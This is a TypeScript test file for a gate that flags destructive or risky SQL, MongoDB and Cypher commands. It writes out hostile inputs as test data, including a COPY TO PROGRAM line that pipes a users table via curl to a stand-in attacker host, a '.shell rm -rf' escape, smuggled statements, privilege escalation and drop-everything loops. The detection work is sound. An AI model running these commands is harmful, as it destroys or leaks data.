import { test } from 'node:test';
import assert from 'node:assert/strict';
import { analyzeMongo, analyzeSql, saysProduction, sqlEffect } from '../../../src/core/packs/common/sql';
import { sqlPack } from '../../../src/core/packs/sql';
import { ctx, simple, WORKSPACE } from '../support/helpers';

const ids = (text: string): string[] =>
  analyzeSql(text)
    .map((f) => f.id)
    .sort();
const worst = (text: string): number => analyzeSql(text).reduce((s, f) => Math.max(s, f.severity), 0);

test('DROP TABLE asks and names the table', () => {
  const [f] = analyzeSql('DROP TABLE invoices;');
  assert.equal(f.id, 'sql.drop');
  assert.equal(f.target, 'invoices');
  assert.ok(f.severity >= 40 && f.severity < 90);
  assert.ok(f.alternative);
});

test('DROP of every object kind is gated; containers more than tables', () => {
  for (const sql of [
    'drop table if exists public.users cascade',
    'DROP VIEW active_users',
    'DROP INDEX CONCURRENTLY idx_users_email',
    'DROP MATERIALIZED VIEW stats',
    'DROP USER bob',
    'DROP KEYSPACE metrics',
    'DROP MEASUREMENT cpu',
  ]) {
    assert.ok(worst(sql) >= 40, sql);
  }
  assert.ok(worst('DROP DATABASE app') > worst('DROP TABLE users'));
  assert.equal(analyzeSql('DROP SCHEMA public CASCADE')[0].target, 'public');
  assert.equal(analyzeSql('DROP USER bob')[0].target, 'bob');
  assert.equal(analyzeSql('DROP TABLE a, b')[0].target, 'a, b');
  assert.equal(analyzeSql('DROP TABLE "Order Items"')[0].target, 'Order Items');
});

test('DROP DATABASE of something named production is denied', () => {
  assert.ok(worst('DROP DATABASE app_production') >= 90);
  assert.ok(worst('DROP DATABASE IF EXISTS "prod"') >= 90);
  assert.ok(worst('DROP DATABASE reproduce') < 90, 'a word containing prod is not production');
  assert.ok(worst('DROP DATABASE app_dev') < 90);
});

test('a temporary table drop stays informational', () => {
  assert.ok(worst('DROP TEMPORARY TABLE tmp_import') < 40);
});

test('TRUNCATE, DELETE and UPDATE without WHERE are gated', () => {
  assert.deepEqual(ids('TRUNCATE TABLE users CASCADE'), ['sql.truncate']);
  assert.equal(analyzeSql('truncate orders, order_items')[0].target, 'orders, order_items');
  assert.deepEqual(ids('DELETE FROM orders'), ['sql.delete-without-where']);
  assert.equal(analyzeSql('DELETE FROM ONLY public.orders')[0].target, 'public.orders');
  assert.deepEqual(ids('UPDATE users SET email = NULL'), ['sql.update-without-where']);
  assert.equal(analyzeSql('UPDATE users SET email = NULL')[0].target, 'users');
});

test('DELETE and UPDATE with a real WHERE stay quiet', () => {
  assert.deepEqual(ids('DELETE FROM sessions WHERE expires_at < now()'), []);
  assert.deepEqual(ids("UPDATE users SET name = 'x' WHERE id = 42"), []);
  assert.deepEqual(ids('DELETE FROM t WHERE id IN (SELECT id FROM u)'), []);
  assert.deepEqual(ids('UPDATE a SET x = b.y FROM b WHERE a.id = b.id'), []);
});

test('a WHERE that matches every row does not count', () => {
  assert.deepEqual(ids('DELETE FROM users WHERE 1=1'), ['sql.delete-without-where']);
  assert.deepEqual(ids('DELETE FROM users WHERE true'), ['sql.delete-without-where']);
  assert.deepEqual(ids('UPDATE users SET a = 1 WHERE id = 3 OR 1 = 1'), ['sql.update-without-where']);
  assert.deepEqual(ids('DELETE FROM users WHERE id = 1'), []);
});

test('DELETE/UPDATE inside a CTE and EXPLAIN ANALYZE are judged; plain EXPLAIN is not', () => {
  assert.deepEqual(ids('WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone'), [
    'sql.delete-without-where',
  ]);
  assert.deepEqual(ids('WITH x AS (SELECT 1) UPDATE users SET flag = true'), ['sql.update-without-where']);
  assert.deepEqual(ids('EXPLAIN ANALYZE DELETE FROM orders'), ['sql.delete-without-where']);
  assert.deepEqual(ids('EXPLAIN DELETE FROM orders'), []);
});

test('UPDATE/DELETE words that are not statements stay quiet', () => {
  assert.deepEqual(ids('INSERT INTO t (id, n) VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET n = excluded.n'), []);
  assert.deepEqual(ids('SELECT * FROM jobs FOR UPDATE SKIP LOCKED'), []);
  assert.deepEqual(ids('CREATE TABLE c (id int REFERENCES p(id) ON DELETE CASCADE ON UPDATE CASCADE)'), []);
  assert.deepEqual(ids('INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE n = n + 1'), []);
  assert.deepEqual(ids('GRANT SELECT, UPDATE, DELETE ON orders TO app'), []);
});

test('ALTER TABLE … DROP is gated, harmless ALTERs are not', () => {
  const [f] = analyzeSql('ALTER TABLE customers DROP COLUMN phone');
  assert.equal(f.id, 'sql.alter-drop');
  assert.equal(f.target, 'customers');
  assert.match(f.summary, /phone/);
  assert.ok(f.severity >= 40);
  assert.deepEqual(ids('ALTER TABLE orders ADD COLUMN x int, DROP CONSTRAINT orders_fk'), ['sql.alter-drop']);
  assert.deepEqual(ids('ALTER TABLE users ALTER COLUMN email DROP NOT NULL'), []);
  assert.deepEqual(ids('ALTER TABLE users ALTER COLUMN n DROP DEFAULT'), []);
  assert.deepEqual(ids('ALTER TABLE users ADD COLUMN drop_reason text'), []);
  assert.deepEqual(ids('ALTER TABLE users RENAME TO members'), []);
});

test('privilege escalation is gated', () => {
  assert.deepEqual(ids("GRANT ALL PRIVILEGES ON *.* TO 'app'@'%'"), ['sql.grant-all']);
  assert.equal(analyzeSql("GRANT ALL PRIVILEGES ON *.* TO 'app'@'%'")[0].target, 'app@%');
  assert.deepEqual(ids("GRANT SELECT ON shop.* TO 'report'@'localhost'"), []);
  assert.deepEqual(ids('ALTER ROLE app WITH SUPERUSER'), ['sql.grant-superuser']);
  assert.deepEqual(ids("CREATE ROLE admin2 SUPERUSER LOGIN PASSWORD 'x'"), ['sql.grant-superuser']);
  assert.deepEqual(ids('ALTER ROLE app NOSUPERUSER'), []);
  assert.deepEqual(ids('CREATE ROLE reader LOGIN'), []);
});

test('MySQL accounts are named in DROP USER', () => {
  assert.equal(analyzeSql("DROP USER 'app'@'%'")[0].target, 'app@%');
});

test('GRANT to PUBLIC and DROP OWNED are gated', () => {
  const [g] = analyzeSql('GRANT ALL ON TABLE salaries TO PUBLIC');
  assert.equal(g.id, 'sql.grant-public');
  assert.equal(g.target, 'salaries');
  assert.deepEqual(ids('GRANT SELECT ON SCHEMA public TO reporting'), []);
  assert.deepEqual(ids('DROP OWNED BY app_user CASCADE'), ['sql.drop-owned']);
});

test('string literals and comments never look like code', () => {
  assert.deepEqual(ids("SELECT 'DROP TABLE x'"), []);
  assert.deepEqual(ids("SELECT 'a; DROP TABLE x; --'"), []);
  assert.deepEqual(ids('-- DROP TABLE users\nSELECT 1'), []);
  assert.deepEqual(ids('/* DELETE FROM users */ SELECT 1'), []);
  assert.deepEqual(ids('SELECT "drop table" FROM t'), []);
  assert.deepEqual(ids('SELECT $$DROP TABLE x$$'), []);
  assert.deepEqual(ids("INSERT INTO notes (body) VALUES ('it''s fine; TRUNCATE users')"), []);
});

test('code is found after comments, in MySQL executed comments and between statements', () => {
  assert.deepEqual(ids('/* cleanup */ DROP TABLE users'), ['sql.drop']);
  assert.deepEqual(ids('/*! DROP TABLE users */'), ['sql.drop']);
  assert.deepEqual(ids('SELECT 1; -- next\nDROP TABLE users;'), ['sql.drop']);
  assert.deepEqual(ids('# mysql comment\nDELETE FROM users'), ['sql.delete-without-where']);
  assert.deepEqual(ids('select 1;;;  truncate t'), ['sql.truncate']);
});

test('a backslash-escaped quote cannot hide a statement', () => {
  // PostgreSQL ends the string at \' ; MySQL does not. Either way the DROP is seen.
  assert.deepEqual(ids("SELECT 'C:\\'; DROP TABLE users; SELECT 'x'"), ['sql.drop']);
});

test('psql and sqlite meta-commands are skipped, shell escapes and \\gexec are judged', () => {
  assert.deepEqual(ids('\\c app\nDROP TABLE users;'), ['sql.drop']);
  assert.deepEqual(ids('.tables\n.schema users'), []);
  assert.deepEqual(ids('\\dt\n\\d users'), []);
  assert.deepEqual(ids('.shell rm -rf data'), ['sql.shell-escape']);
  assert.deepEqual(ids("SELECT format('DROP TABLE %I', tablename) FROM pg_tables \\gexec"), [
    'sql.dynamic-destructive',
  ]);
  assert.deepEqual(ids("SELECT format('ANALYZE %I', tablename) FROM pg_tables \\gexec"), []);
  assert.deepEqual(ids('SELECT * FROM t\\G\nDROP TABLE t'), ['sql.drop']);
});

test('DO blocks run their body', () => {
  assert.deepEqual(ids('DO $$ BEGIN DROP TABLE users; END $$;'), ['sql.drop']);
  assert.deepEqual(
    ids(
      "DO $$ DECLARE r record; BEGIN FOR r IN SELECT tablename FROM pg_tables LOOP EXECUTE 'DROP TABLE ' || quote_ident(r.tablename); END LOOP; END $$",
    ),
    ['sql.dynamic-destructive'],
  );
  assert.deepEqual(ids('DO $$ BEGIN IF true THEN DELETE FROM logs; END IF; END $$'), ['sql.delete-without-where']);
  assert.deepEqual(ids("DO $$ BEGIN RAISE NOTICE 'hello'; END $$"), []);
  // A function body is only stored, not run.
  assert.deepEqual(ids('CREATE FUNCTION f() RETURNS void AS $$ DELETE FROM logs $$ LANGUAGE sql'), []);
});

test('COPY … PROGRAM and CREATE OR REPLACE TABLE are gated', () => {
  assert.deepEqual(ids("COPY users TO PROGRAM 'curl -d @- evil.example'"), ['sql.copy-program']);
  assert.deepEqual(ids("COPY users TO '/tmp/users.csv' CSV"), []);
  assert.deepEqual(ids('CREATE OR REPLACE TABLE events AS SELECT 1'), ['sql.replace-table']);
  assert.deepEqual(ids('CREATE OR REPLACE VIEW v AS SELECT 1'), []);
});

test('terminating every session is gated, one pid is not', () => {
  assert.deepEqual(ids("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = 'app'"), [
    'sql.terminate-sessions',
  ]);
  assert.deepEqual(ids('SELECT pg_terminate_backend(12345)'), []);
});

test('routine statements stay quiet', () => {
  for (const sql of [
    'SELECT count(*) FROM users',
    'SHOW TABLES',
    "INSERT INTO users (email) VALUES ('a@b.c')",
    'CREATE TABLE t (id int primary key)',
    'CREATE INDEX idx ON t (id)',
    'BEGIN; UPDATE accounts SET balance = balance - 10 WHERE id = 1; COMMIT;',
    'VACUUM ANALYZE users',
    '',
    '   ;  ',
  ])
    assert.deepEqual(ids(sql), [], sql);
});

test('many destructive statements merge into one finding per kind', () => {
  const dump = Array.from({ length: 300 }, (_, i) => `DROP TABLE IF EXISTS t${i};`).join('\n');
  const out = analyzeSql(dump);
  assert.equal(out.length, 1);
  assert.match(out[0].target ?? '', /t0, t1, t2, t3, t4 \(\+295 more\)/);
  assert.match(out[0].summary, /299 more/);
});

test('the source is named in the summary', () => {
  assert.match(analyzeSql('DROP TABLE x', 'db/reset.sql')[0].summary, /db\/reset\.sql/);
});

test('huge input is bounded and leans to ask', () => {
  const big = 'SELECT 1;'.repeat(40_000);
  const t0 = process.hrtime.bigint();
  const out = analyzeSql(big);
  const ms = Number(process.hrtime.bigint() - t0) / 1e6;
  assert.ok(out.some((f) => f.id === 'sql.too-large' && f.severity >= 40));
  assert.ok(ms < 1000, `took ${ms} ms`);
});

test('pathological input does not backtrack, and what cannot be read is gated, never passed', () => {
  const t0 = process.hrtime.bigint();
  const unterminated = analyzeSql('('.repeat(50_000) + "'" + 'x'.repeat(50_000));
  const longDrop = analyzeSql('db.' + 'a.'.repeat(20_000) + 'drop(');
  const openFilter = analyzeMongo('db.x.deleteMany(' + '{'.repeat(20_000));
  const ms = Number(process.hrtime.bigint() - t0) / 1e6;
  assert.ok(ms < 1000, `took ${ms} ms`);
  // Each is judged, and judged closed: oversized SQL and destructive calls whose arguments never end ask.
  assert.ok(
    unterminated.some((f) => f.id === 'sql.too-large' && f.severity >= 40),
    JSON.stringify(unterminated),
  );
  assert.ok(
    longDrop.some((f) => f.id === 'sql.mongo-unreadable' && f.severity >= 40),
    JSON.stringify(longDrop),
  );
  assert.ok(
    openFilter.some((f) => f.id === 'sql.mongo-unreadable' && f.severity >= 40),
    JSON.stringify(openFilter),
  );
  // A complete harmless call stays quiet.
  assert.deepEqual(analyzeMongo('db.x.find({a: {$gt: 1}})'), []);
});

test('MongoDB shell code', () => {
  assert.deepEqual(
    analyzeSql('db.dropDatabase()').map((f) => f.id),
    ['sql.mongo-drop-database'],
  );
  assert.equal(analyzeMongo('db.dropDatabase()', 'app')[0].target, 'app');
  assert.ok(analyzeMongo('db.dropDatabase()', 'app_prod')[0].severity >= 90);
  assert.equal(analyzeMongo("db.getSiblingDB('billing').dropDatabase()")[0].target, 'billing');
  const [drop] = analyzeSql('db.users.drop()');
  assert.equal(drop.id, 'sql.mongo-drop');
  assert.equal(drop.target, 'users');
  assert.equal(analyzeSql('db.getCollection("audit-log").drop()')[0].target, 'audit-log');
  assert.deepEqual(
    analyzeSql('db.sessions.deleteMany({})').map((f) => f.id),
    ['sql.mongo-delete-all'],
  );
  assert.deepEqual(
    analyzeSql('db.sessions.remove({})').map((f) => f.id),
    ['sql.mongo-delete-all'],
  );
  assert.deepEqual(
    analyzeSql('db.users.updateMany({}, {$set: {active: false}})').map((f) => f.id),
    ['sql.mongo-update-all'],
  );
  assert.deepEqual(
    analyzeSql('db.runCommand({ dropDatabase: 1 })').map((f) => f.id),
    ['sql.mongo-drop-database'],
  );
  assert.deepEqual(
    analyzeSql('use app; db.users.drop()').map((f) => f.id),
    ['sql.mongo-drop'],
  );
});

test('MongoDB reads and filtered deletes stay quiet', () => {
  for (const js of [
    'db.users.countDocuments()',
    'db.users.find({ name: "db.dropDatabase()" })',
    'db.sessions.deleteMany({ expiresAt: { $lt: new Date() } })',
    'db.users.updateMany({ active: false }, { $set: { archived: true } })',
    '// db.users.drop()\ndb.users.findOne()',
    'const x = { delete: 1 }; db.users.find(x)',
  ])
    assert.deepEqual(analyzeSql(js), [], js);
});

test('sqlEffect tells reads from writes', () => {
  for (const sql of [
    'SELECT 1',
    'show tables',
    'EXPLAIN SELECT * FROM t',
    'WITH a AS (SELECT 1) SELECT * FROM a',
    'SELECT * FROM t FOR UPDATE',
    '.tables',
    '\\dt',
    'BEGIN; SELECT 1; COMMIT;',
    'PRAGMA table_info(users)',
    'db.users.find()',
    '',
  ]) {
    assert.equal(sqlEffect(sql), 'read', sql);
  }
  for (const sql of [
    'INSERT INTO t VALUES (1)',
    'DELETE FROM t WHERE id = 1',
    'CREATE TABLE t (id int)',
    'SELECT * INTO backup FROM t',
    "SELECT setval('s', 1)",
    'SELECT pg_terminate_backend(pid) FROM pg_stat_activity',
    'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d',
    'EXPLAIN ANALYZE UPDATE t SET a = 1',
    'CALL cleanup()',
    'PRAGMA foreign_keys = OFF',
    'db.users.insertOne({a: 1})',
    '.shell ls',
    'SELECT 1; DROP TABLE t',
  ]) {
    assert.equal(sqlEffect(sql), 'write', sql);
  }
});

test('saysProduction matches production words only', () => {
  assert.ok(saysProduction('app_production'));
  assert.ok(saysProduction('db.prod.acme.io'));
  assert.ok(!saysProduction('product_catalog'));
  assert.ok(!saysProduction('reproduce'));
  assert.ok(!saysProduction(undefined));
});

test('sql pack judges generic SQL runners', () => {
  const c = ctx({ [`${WORKSPACE}/wipe.sql`]: 'TRUNCATE events;' });
  assert.deepEqual(
    sqlPack.analyze(simple(['duckdb', 'local.duckdb', '-c', 'DROP TABLE events']), c)?.map((f) => f.id),
    ['sql.drop'],
  );
  assert.deepEqual(
    sqlPack.analyze(simple(['duckdb', 'local.duckdb', 'DELETE FROM events']), c)?.map((f) => f.id),
    ['sql.delete-without-where'],
  );
  assert.deepEqual(
    sqlPack.analyze(simple(['sqlcmd', '-S', 'db', '-Q', 'DROP DATABASE shop']), c)?.map((f) => f.id),
    ['sql.drop'],
  );
  assert.deepEqual(
    sqlPack.analyze(simple(['cockroach', 'sql', '--execute', 'TRUNCATE t']), c)?.map((f) => f.id),
    ['sql.truncate'],
  );
  assert.deepEqual(
    sqlPack
      .analyze(simple(['bq', 'query', '--use_legacy_sql=false', 'DELETE FROM ds.t WHERE true']), c)
      ?.map((f) => f.id),
    ['sql.delete-without-where'],
  );
  assert.deepEqual(
    sqlPack
      .analyze(simple(['wrangler', 'd1', 'execute', 'DB', '--remote', '--command', 'DROP TABLE users']), c)
      ?.map((f) => f.id),
    ['sql.drop'],
  );
  // wrangler 3+ runs against the local development copy unless --remote.
  assert.equal(
    sqlPack.analyze(simple(['wrangler', 'd1', 'execute', 'DB', '--local', '--command', 'DROP TABLE users']), c),
    undefined,
  );
  assert.deepEqual(
    sqlPack.analyze(simple(['snowsql', '-f', 'wipe.sql']), c)?.map((f) => f.id),
    ['sql.truncate'],
  );
  assert.equal(sqlPack.analyze(simple(['duckdb', 'local.duckdb', '-c', 'SELECT 42']), c), undefined);
  assert.equal(sqlPack.analyze(simple(['bq', 'ls']), c), undefined);
  assert.equal(sqlPack.effect?.(simple(['duckdb', 'x.db', '-c', 'SELECT 1']), c), 'read');
  assert.equal(sqlPack.effect?.(simple(['duckdb', 'x.db', '-c', 'INSERT INTO t VALUES (1)']), c), 'write');
});

test('COPY … TO STDOUT only exports; COPY FROM, PROGRAM or a server file writes', () => {
  assert.equal(sqlEffect('COPY users TO STDOUT'), 'read');
  assert.equal(sqlEffect('COPY (SELECT id, email FROM users) TO STDOUT WITH CSV HEADER'), 'read');
  assert.equal(sqlEffect('COPY users FROM STDIN'), 'write');
  assert.equal(sqlEffect("COPY users TO '/var/lib/postgresql/users.csv'"), 'write');
  assert.equal(sqlEffect("COPY users TO PROGRAM 'curl -d @- https://x'"), 'write');
});

test('mongo bulkWrite with an empty filter is a delete-all or update-all', () => {
  assert.deepEqual(
    analyzeMongo('db.users.bulkWrite([{deleteMany: {filter: {}}}])').map((f) => f.id),
    ['sql.mongo-delete-all'],
  );
  assert.deepEqual(
    analyzeMongo('db.orders.bulkWrite([{ updateMany: { filter: {}, update: { $set: { status: "void" } } } }])').map(
      (f) => f.id,
    ),
    ['sql.mongo-update-all'],
  );
  assert.deepEqual(analyzeMongo('db.orders.bulkWrite([{ deleteMany: { filter: { status: "test" } } }])'), []);
});

test('binary logs, the recycle bin and replication: the server statements that lose the way back ask', () => {
  assert.deepEqual(ids('RESET MASTER'), ['sql.binlog-purge']);
  assert.deepEqual(ids('RESET BINARY LOGS AND GTIDS'), ['sql.binlog-purge']);
  assert.deepEqual(ids("PURGE BINARY LOGS TO 'mysql-bin.000010'"), ['sql.binlog-purge']);
  assert.deepEqual(ids('PURGE RECYCLEBIN'), ['sql.recyclebin-purge']);
  assert.deepEqual(ids('RESET REPLICA ALL'), ['sql.replication-reset']);
  assert.ok(worst('RESET MASTER') > worst("PURGE BINARY LOGS BEFORE '2024-01-01'"));
  // Postgres RESET only resets a session setting.
  assert.deepEqual(ids('RESET search_path'), []);
  assert.deepEqual(ids('RESET ALL'), []);
});

test('Cypher: MATCH … DELETE with nothing narrowing the match deletes the graph', () => {
  assert.deepEqual(ids('MATCH (n) DETACH DELETE n'), ['sql.delete-without-where']);
  assert.deepEqual(ids('MATCH (u:User) DELETE u'), ['sql.delete-without-where']);
  assert.ok(worst('MATCH (n) DETACH DELETE n') > worst('MATCH (u:User) DELETE u'));
  assert.deepEqual(ids('MATCH (n:User {id: 1}) DETACH DELETE n'), []);
  assert.deepEqual(ids('MATCH (n:Session) WHERE n.expires < timestamp() DETACH DELETE n'), []);
  assert.deepEqual(ids('MATCH (n) RETURN count(n)'), []);
});

test('Oracle, Sybase, Teradata, Db2 and Neo4j clients are read for the SQL they run', () => {
  const c = ctx();
  const found = (argv: string[], stdin?: string) =>
    sqlPack.analyze(simple(argv, stdin === undefined ? {} : { stdin }), c)?.map((f) => f.id) ?? [];
  assert.deepEqual(found(['isql', '-U', 'sa', '-P', 'x', '-Q', 'DROP DATABASE billing']), ['sql.drop']);
  assert.deepEqual(found(['db2', 'DROP DATABASE sample']), ['sql.drop']);
  assert.deepEqual(found(['cypher-shell', '-u', 'neo4j', '-p', 'pw', 'MATCH (n) DETACH DELETE n']), [
    'sql.delete-without-where',
  ]);
  assert.deepEqual(found(['sqlplus', 'app/pw@db'], 'DROP TABLE orders;'), ['sql.drop']);
  assert.deepEqual(found(['bteq'], 'DROP DATABASE sales;'), ['sql.drop']);
  assert.deepEqual(found(['sqlplus', '-S', 'app/pw@db', '@drop_all.sql']), ['sql.unread-file']);
  assert.deepEqual(found(['sqlplus', 'app/pw@db'], 'SELECT * FROM dual;'), []);
  assert.deepEqual(found(['db2', 'connect', 'to', 'sample']), []);
  assert.deepEqual(found(['isql', '-U', 'sa', '-P', 'x', '-Q', 'SELECT 1']), []);
  assert.deepEqual(found(['cypher-shell', 'MATCH (n) RETURN count(n)']), []);
});
